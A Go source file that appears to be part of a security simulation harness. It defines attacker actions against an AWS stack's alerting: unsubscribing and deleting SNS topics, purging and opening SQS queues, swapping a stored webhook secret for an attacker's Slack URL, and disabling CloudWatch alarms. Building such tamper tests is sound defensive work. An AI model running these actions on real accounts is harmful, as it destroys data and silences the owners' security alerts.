package act

import (
	"context"
	"encoding/json"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"trailkeeper/lambda/internal/simulate/stage"
)

// onTopic is something that the attacker does to the stack's topic.
func onTopic(do func(context.Context, *sns.Client, *string) error) Act {
	return func(ctx context.Context, s *stage.Stage) error {
		return do(ctx, sns.NewFromConfig(attacker(s)), aws.String(s.Cloud.ARNOf("NotificationsTopic")))
	}
}

// Unsubscribes takes every subscription of the stack's topic away.
func Unsubscribes() Act {
	return onTopic(func(ctx context.Context, c *sns.Client, topic *string) error {
		out, err := c.ListSubscriptionsByTopic(ctx, &sns.ListSubscriptionsByTopicInput{TopicArn: topic})
		if err != nil {
			return err
		}
		for _, of := range out.Subscriptions {
			if _, err := c.Unsubscribe(ctx, &sns.UnsubscribeInput{SubscriptionArn: of.SubscriptionArn}); err != nil {
				return err
			}
		}
		return nil
	})
}

// ClosesTopic puts a policy on the stack's topic that denies everybody to publish.
func ClosesTopic() Act {
	return onTopic(func(ctx context.Context, c *sns.Client, topic *string) error {
		_, err := c.SetTopicAttributes(ctx, &sns.SetTopicAttributesInput{
			TopicArn: topic, AttributeName: aws.String("Policy"),
			AttributeValue: aws.String(denies("sns:Publish", *topic)),
		})
		return err
	})
}

// DeletesTopic deletes the stack's topic.
func DeletesTopic() Act {
	return onTopic(func(ctx context.Context, c *sns.Client, topic *string) error {
		_, err := c.DeleteTopic(ctx, &sns.DeleteTopicInput{TopicArn: topic})
		return err
	})
}

// denies is a policy that denies everybody an action on a resource.
func denies(action, resource string) string {
	raw, _ := json.Marshal(object{"Version": "2012-10-17", "Statement": []any{object{ // of texts
		"Effect": "Deny", "Principal": "*", "Action": action, "Resource": resource,
	}}})
	return string(raw)
}

// onQueue is something that the attacker does to a queue, by its logical ID without CDK's hash.
func onQueue(id string, do func(context.Context, *sqs.Client, *string) error) Act {
	return func(ctx context.Context, s *stage.Stage) error {
		c := sqs.NewFromConfig(attacker(s))
		out, err := c.GetQueueUrl(ctx, &sqs.GetQueueUrlInput{QueueName: aws.String(nameIn(s.Cloud.ARNOf(id)))})
		if err != nil {
			return err
		}
		return do(ctx, c, out.QueueUrl)
	}
}

// Purges empties a queue.
func Purges(id string) Act {
	return onQueue(id, func(ctx context.Context, c *sqs.Client, url *string) error {
		_, err := c.PurgeQueue(ctx, &sqs.PurgeQueueInput{QueueUrl: url})
		return err
	})
}

// OpensQueue lifts the policy of a queue.
func OpensQueue(id string) Act {
	return onQueue(id, func(ctx context.Context, c *sqs.Client, url *string) error {
		_, err := c.SetQueueAttributes(ctx, &sqs.SetQueueAttributesInput{QueueUrl: url, Attributes: map[string]string{"Policy": ""}})
		return err
	})
}

// DeletesQueue deletes a queue.
func DeletesQueue(id string) Act {
	return onQueue(id, func(ctx context.Context, c *sqs.Client, url *string) error {
		_, err := c.DeleteQueue(ctx, &sqs.DeleteQueueInput{QueueUrl: url})
		return err
	})
}

// ReplacesSecret puts a webhook of the attacker's into the stack's secret, at which every message is answered "ok".
func ReplacesSecret() Act {
	return func(ctx context.Context, s *stage.Stage) error {
		c := secretsmanager.NewFromConfig(attacker(s))
		_, err := c.PutSecretValue(ctx, &secretsmanager.PutSecretValueInput{
			SecretId:     aws.String(s.Stack),
			SecretString: aws.String(`{"webhook":"https://hooks.slack.com/services/T0MALLORY/B0MALLORY/made-up-foreign-secret"}`),
		})
		return err
	}
}

// DisablesAlarms takes the actions of every alarm of the stack away.
func DisablesAlarms() Act {
	return func(ctx context.Context, s *stage.Stage) error {
		c := cloudwatch.NewFromConfig(attacker(s))
		out, err := c.DescribeAlarms(ctx, &cloudwatch.DescribeAlarmsInput{AlarmNamePrefix: aws.String(s.Stack)})
		if err != nil {
			return err
		}
		var names []string
		for _, a := range out.MetricAlarms {
			names = append(names, aws.ToString(a.AlarmName))
		}
		_, err = c.DisableAlarmActions(ctx, &cloudwatch.DisableAlarmActionsInput{AlarmNames: names})
		return err
	}
}
